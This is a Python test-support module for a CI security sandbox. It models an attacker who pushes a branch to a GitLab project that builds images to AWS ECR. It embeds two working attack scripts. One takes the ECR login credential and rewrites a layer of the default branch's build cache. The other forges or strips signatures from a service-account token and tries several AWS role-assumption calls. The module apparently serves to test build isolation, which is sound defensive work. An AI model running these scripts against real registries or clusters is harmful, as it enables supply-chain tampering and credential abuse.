"""An attacker who may push a branch: jobs of any text, on any tags, with all that a job's pod can reach."""

from collections.abc import Mapping, Sequence
from dataclasses import dataclass

import yaml

from sandbox.builds.events import Event, Trigger
from sandbox.builds.run import Result
from stacks import tags
from stacks.trust import Trust, review_repository
from tests.sandbox.builds.environments import Environment
from tests.sandbox.builds.example_group import HOST, ImageProject

BRANCH = "evil"
DENIED = "is not authorized to perform: ecr:"
"""ECR's refusal."""

LOGIN = f"""\
export DOCKER_CONFIG=$(mktemp -d)
printf '{{"credHelpers": {{"{HOST}": "ecr-login"}}}}' >"$DOCKER_CONFIG/config.json"
"""

# Replaces a layer of the default branch's cache by one with another file. The arguments are the host, the repository
# that the cache is in, the repository to write it to, and the cache's tag.
DOCTOR = r"""
import base64, gzip, hashlib, io, json, ssl, subprocess, sys, tarfile, urllib.request

host, source, target, tag = sys.argv[1:]
held = subprocess.run(["docker-credential-ecr-login", "get"], input=host, capture_output=True, text=True, check=True)
token = base64.b64encode(f"AWS:{json.loads(held.stdout)['Secret']}".encode()).decode()
KIND = "application/vnd.oci.image.manifest.v1+json"

def ask(method, path, data=None, kind="application/octet-stream"):
    url = path if path.startswith("https:") else f"https://{host}{path}"
    headers = {"Authorization": f"Basic {token}", "Accept": KIND, "Content-Type": kind}
    try:
        request = urllib.request.Request(url, data, headers, method=method)
        return urllib.request.urlopen(request, context=ssl._create_unverified_context())
    except urllib.error.HTTPError as error:
        sys.exit(f"{error.code} {error.read().decode()}")

def blob(digest):
    return ask("GET", f"/v2/{source}/blobs/{digest}").read()

def push(content):
    digest = "sha256:" + hashlib.sha256(content).hexdigest()
    where = ask("POST", f"/v2/{target}/blobs/uploads/", b"").headers["Location"]
    ask("PUT", where + ("&" if "?" in where else "?") + f"digest={digest}", content)
    return digest

manifest = json.loads(ask("GET", f"/v2/{source}/manifests/{tag}").read())
config = json.loads(blob(manifest["config"]["digest"]))
evil = io.BytesIO()
with tarfile.open(fileobj=evil, mode="w") as layer:
    entry = tarfile.TarInfo("installed")
    entry.size = 6
    layer.addfile(entry, io.BytesIO(b"owned\n"))
packed = gzip.compress(evil.getvalue())
content = {}
for each in manifest["layers"]:
    data = blob(each["digest"])
    with tarfile.open(fileobj=io.BytesIO(data)) as layer:
        if "installed" in [name.strip("./") for name in layer.getnames()]:
            old, data = each["digest"], packed
            each["size"] = len(packed)
            each["annotations"] = {
                **each.get("annotations", {}),
                "containerd.io/uncompressed": "sha256:" + hashlib.sha256(evil.getvalue()).hexdigest(),
            }
            for part in config["layers"]:
                if part["blob"] == old:
                    part["blob"] = "sha256:" + hashlib.sha256(packed).hexdigest()
    each["digest"] = push(data)
text = json.dumps(config).encode()
manifest["config"] = {**manifest["config"], "digest": push(text), "size": len(text)}
ask("PUT", f"/v2/{target}/manifests/{tag}", json.dumps(manifest).encode(), manifest.get("mediaType", KIND))
print("the cache is doctored")
"""

# Tries every way from a job's own identity to another role, and prints the results. The arguments are the region, the
# role's ARN, the namespace of the service account that it is for, and the cluster.
ASSUME = r"""
import base64, json, os, ssl, sys, urllib.error, urllib.parse, urllib.request

region, role, namespace, cluster = sys.argv[1:]
token = os.environ["AWS_CONTAINER_AUTHORIZATION_TOKEN"]

def ask(what, url, data=None, headers={}):
    try:
        request = urllib.request.Request(url, data, headers)
        answer = urllib.request.urlopen(request, context=ssl._create_unverified_context()).read().decode()
    except urllib.error.HTTPError as error:
        answer = f"refused with {error.code}: {error.read().decode()}"
    print(what, "-", " ".join(answer.split()), flush=True)
    return answer

def agent(what, shown):
    return ask(what, os.environ["AWS_CONTAINER_CREDENTIALS_FULL_URI"], headers={"Authorization": shown})

def encoded(claims):
    return base64.urlsafe_b64encode(json.dumps(claims).encode()).decode().rstrip("=")

own = json.loads(agent("my own token", token))
head, claims, signature = token.split(".")
claims = json.loads(base64.urlsafe_b64decode(claims + "=="))
claims["kubernetes.io"]["namespace"] = namespace
claims["sub"] = f"system:serviceaccount:{namespace}:builds"
agent("a forged token", f"{head}.{encoded(claims)}.{signature}")
agent("an unsigned token", f"{encoded({'alg': 'none'})}.{encoded(claims)}.")

def signed(service):
    key = f"{own['AccessKeyId']}/20260101/{region}/{service}/aws4_request"
    return {
        "Authorization": f"AWS4-HMAC-SHA256 Credential={key}, SignedHeaders=host, Signature=0",
        "X-Amz-Security-Token": own["Token"],
    }

def sts(what, action, **parameters):
    form = {"Action": action, "Version": "2011-06-15", "RoleSessionName": "evil", "RoleArn": role, **parameters}
    headers = {**signed("sts"), "Content-Type": "application/x-www-form-urlencoded"}
    ask(what, f"https://sts.{region}.amazonaws.com/", urllib.parse.urlencode(form).encode(), headers)

sts("who am I", "GetCallerIdentity")
sts("the other role", "AssumeRole")
tags = {"kubernetes-namespace": namespace, "kubernetes-service-account": "builds"}
tags["eks-cluster-arn"] = f"arn:aws:eks:{region}:{role.split(':')[4]}:cluster/{cluster}"
numbered = {f"Tags.member.{n}.{k}": v for n, pair in enumerate(tags.items(), 1) for k, v in zip(("Key", "Value"), pair)}
sts("the other role with a pod's tags", "AssumeRole", **numbered)
sts("the other role by my token", "AssumeRoleWithWebIdentity", WebIdentityToken=token)
body = json.dumps({"token": token}).encode()
headers = {**signed("eks-auth"), "Content-Type": "application/json"}
ask("as the agent", f"https://eks-auth.{region}.api.aws/clusters/{cluster}/assume-role-for-pod-identity", body, headers)
"""


@dataclass(frozen=True, kw_only=True)
class Attacker:
    """Somebody who may push branches to a project, but not to protected ones."""

    environment: Environment
    project: ImageProject
    trust: Trust

    @property
    def own_tags(self) -> list[str]:
        """The tags of the runner that takes jobs of unprotected refs."""
        return ["amd64", "linux", *(["unprotected"] if self.trust is Trust.ISOLATED else [])]

    @property
    def repository(self) -> str:
        """The released image's repository."""
        return f"{self.project.path}/app"

    @property
    def image(self) -> str:
        """The released image, without a tag."""
        return f"{HOST}/{self.repository}"

    @property
    def review(self) -> str:
        return review_repository(self.image)

    def run(
        self,
        script: str,
        *,
        runner_tags: Sequence[str] | None = None,
        variables: Mapping[str, str] | None = None,
        files: Mapping[str, str] | None = None,
    ) -> Result:
        """Push a branch whose pipeline is one job with this script, and run it."""
        job = {
            "tags": list(self.own_tags if runner_tags is None else runner_tags),
            "script": [LOGIN + script],
            "variables": dict(variables or {}),
        }
        self.push({".gitlab-ci.yml": yaml.safe_dump({"attack": job}), **(files or {})})
        return self.environment.build(self.project, Event(trigger=Trigger.PUSH, ref=BRANCH))

    def push(self, files: Mapping[str, str], branch: str = BRANCH) -> None:
        exists = self.project.repository.commit_id(branch)
        self.project.commit(files, branch=branch, start=None if exists else "master")

    def merge_request(self) -> Event:
        """The event of a merge request from the attacker's branch."""
        return Event(trigger=Trigger.MERGE_REQUEST, ref=BRANCH)

    def release(self, tag: str) -> Result:
        """Let the project's owner release the default branch under a protected Git tag."""
        commit = self.project.repository.commit_id("master")
        assert commit
        self.project.tag(tag, commit)
        return self.environment.build(self.project, Event(trigger=Trigger.TAG, ref=tag))

    def digest(self, tag: str = tags.LATEST) -> str | None:
        """The digest of the released image under a tag, as ECR's API says it."""
        ecr = self.environment.group.client("ecr")
        found = ecr.batch_get_image(repositoryName=self.repository, imageIds=[{"imageTag": tag}])["images"]
        return str(found[0]["imageId"]["imageDigest"]) if found else None

    def cache(self) -> str:
        """The tag of the default branch's cache."""
        [found] = [tag for tag in self.environment.tags(self.project) if tag.startswith(tags.CACHE_PREFIX)]
        return found


def words(result: Result) -> str:
    """The last lines of all jobs."""
    return "\n".join("\n".join(job.tail) for job in result.jobs)
